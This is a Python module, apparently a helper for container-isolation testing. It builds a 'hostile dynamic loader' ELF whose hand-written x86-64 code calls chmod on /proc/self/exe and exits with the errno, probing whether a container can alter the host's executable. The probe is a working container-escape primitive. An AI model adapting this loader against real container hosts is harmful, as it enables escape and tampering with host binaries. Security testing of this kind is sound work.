"""A hostile dynamic loader: the kernel runs it inside whatever program names its path as its interpreter.

A program of the host's that is executed in a container is loaded by the
container's own loader.  This one, 175 bytes of x86-64, asks for another mode for
/proc/self/exe and ends with the errno of that, or with 0.
"""

import struct

_BASE = 0x10_0000_0000
_HEADERS = 64 + 56
_PATH = b"/proc/self/exe\0"
_CODE = bytes.fromhex(
    "b85a000000"  # mov eax, 90 (chmod)
    "488d3d18000000"  # lea rdi, [rip + 24]: the path, behind the code
    "beed010000"  # mov esi, 0755
    "0f05"  # syscall
    "f7d8"  # neg eax
    "89c7"  # mov edi, eax
    "b83c000000"  # mov eax, 60 (exit)
    "0f05"  # syscall
    "909090909090"
)


def loader() -> bytes:
    """Return it as an ELF file."""
    size = _HEADERS + len(_CODE) + len(_PATH)
    ident = b"\x7fELF" + bytes([2, 1, 1]) + bytes(9)
    executable, x86_64, readable_and_executable = 2, 62, 5
    header = ident + struct.pack(
        "<HHIQQQIHHHHHH", executable, x86_64, 1, _BASE + _HEADERS, 64, 0, 0, 64, 56, 1, 0, 0, 0
    )
    segment = struct.pack("<IIQQQQQQ", 1, readable_and_executable, 0, _BASE, _BASE, size, size, 0x1000)
    return header + segment + _CODE + _PATH
